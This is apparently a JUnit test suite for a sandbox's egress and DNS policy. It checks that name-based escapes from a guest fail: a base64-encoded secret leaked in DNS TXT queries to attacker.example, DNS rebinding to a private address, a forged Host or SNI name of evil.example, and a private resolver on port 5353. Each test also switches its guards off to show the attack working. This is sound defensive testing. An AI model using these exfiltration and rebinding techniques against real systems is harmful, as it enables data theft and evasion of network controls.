package dev.podflare.network;

import static org.assertj.core.api.Assertions.assertThat;

import dev.podflare.network.EgressPolicy.Default;
import dev.podflare.network.Internet.EchoServer;
import dev.podflare.network.Internet.UdpEcho;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.xbill.DNS.Rcode;
import org.xbill.DNS.Section;
import org.xbill.DNS.Type;

/**
 * Attacks from within a guest by way of names. Each is seen to fail, then its guard is turned off,
 * in the packet filter, the resolver or the gate, and under the same policy it is seen to succeed.
 */
class SlotNameAttackTest {
  private NamesRig rig;
  private Guest guest;
  private EchoServer web;
  private EchoServer secure;

  @BeforeEach
  void open() throws Exception {
    rig = new NamesRig(Internet.create(), "5e11510d");
    rig.upstream.add("web.example. 60 A " + Internet.SERVER);
    rig.upstream.add("rebind.example. 0 A " + Internet.PRIVATE);
    guest = rig.guest;
    web = rig.internet.tcp(rig.internet.outside, Internet.SERVER, 80);
    secure = rig.internet.tcp(rig.internet.outside, Internet.SERVER, 443);
  }

  @AfterEach
  void close() throws Exception {
    rig.close();
  }

  @Test
  void secretsInTheNamesOfQueries() throws Exception {
    for (EgressPolicy policy :
        List.of(
            EgressPolicy.SHUT,
            EgressPolicy.parse(Default.DENY, List.of("203.0.113.0/24"), List.of(), true))) {
      rig.slot.apply(policy);
      assertThat(rig.ask("c2VjcmV0.attacker.example", Type.TXT).getRcode())
          .isEqualTo(Rcode.REFUSED);
    }
    rig.allowOnly("web.example");
    assertThat(rig.ask("c2VjcmV0.attacker.example", Type.TXT).getRcode()).isEqualTo(Rcode.NXDOMAIN);
    assertThat(rig.upstream.asked).isEmpty();

    rig.slot.apply(EgressPolicy.SHUT);
    rig.resolverSees.lie("policy", Optional.of(EgressPolicy.OPEN));
    rig.ask("c2VjcmV0.attacker.example", Type.TXT);
    assertThat(rig.upstream.asked).containsExactly("udp c2vjcmv0.attacker.example TXT");
  }

  @Test
  void aNameThatLeadsIntoAPrivateNetwork() throws Exception {
    EchoServer inside = rig.internet.tcp(rig.internet.outside, Internet.PRIVATE, 80);
    rig.allowOnly("rebind.example");
    assertThat(rig.ask("rebind.example", Type.A).getSection(Section.ANSWER)).isEmpty();
    assertThat(guest.tcp(Internet.PRIVATE, 80)).isEqualTo("refused");

    // Guards behind each other: the answer, the pin, the packet filter, the gate.
    rig.resolverSees.lie("alwaysDenied", false);
    assertThat(rig.ask("rebind.example", Type.A).getSection(Section.ANSWER)).hasSize(1);
    rig.pinInTheFilter(Internet.PRIVATE);
    assertThat(guest.tcp(Internet.PRIVATE, 80)).isEqualTo("refused");
    rig.openDeniedRanges();
    rig.gateSees.lie("pinned", true);
    assertThat(rig.get(Internet.PRIVATE, "rebind.example")).isEmpty();
    assertThat(inside.accepted()).isZero();

    rig.gateSees.lie("alwaysDenied", false);
    assertThat(rig.get(Internet.PRIVATE, "rebind.example")).contains("Host: rebind.example");
  }

  @Test
  void aHostOrServerNameThatIsNotTheOneThatWasAskedFor() throws Exception {
    rig.allowOnly("web.example");
    assertThat(rig.ask("web.example", Type.A).getRcode()).isEqualTo(Rcode.NOERROR);
    assertThat(rig.get(Internet.SERVER, "evil.example")).isEmpty();
    assertThat(rig.hello(Internet.SERVER, "evil.example")).isEmpty();
    assertThat(web.received() + secure.received()).isEmpty();

    rig.openWayPastTheGate();
    assertThat(rig.get(Internet.SERVER, "evil.example")).contains("Host: evil.example");
    assertThat(rig.hello(Internet.SERVER, "evil.example")).contains("evil.example");
  }

  @Test
  void aResolverOfTheGuestsOwnAtAnotherPort() throws Exception {
    UdpEcho datagrams = rig.internet.udp(rig.internet.outside, Internet.SERVER, 5353);
    EchoServer stream = rig.internet.tcp(rig.internet.outside, Internet.SERVER, 5353);
    rig.allowOnly("web.example");
    assertThat(guest.udp(Internet.SERVER, 5353)).isEqualTo("refused");
    assertThat(guest.tcp(Internet.SERVER, 5353)).isEqualTo("refused");
    // The same where an allowed name leads to that address.
    assertThat(rig.ask("web.example", Type.A).getRcode()).isEqualTo(Rcode.NOERROR);
    assertThat(guest.udp(Internet.SERVER, 5353)).isEqualTo("refused");
    assertThat(queryByTcp()).isEmpty();
    assertThat(datagrams.heard.get() + stream.accepted()).isZero();

    rig.openWayPastTheGate();
    assertThat(guest.udp(Internet.SERVER, 5353)).isEqualTo("open");
    assertThat(queryByTcp()).contains("attacker");
  }

  private String queryByTcp() throws Exception {
    byte[] query = ResolverRig.query("c2VjcmV0.attacker.example", Type.TXT).toWire();
    byte[] sent =
        ByteBuffer.allocate(2 + query.length).putShort((short) query.length).put(query).array();
    try (Socket socket = guest.connect(Internet.SERVER, 5353)) {
      return NamesRig.exchange(socket, sent);
    }
  }
}
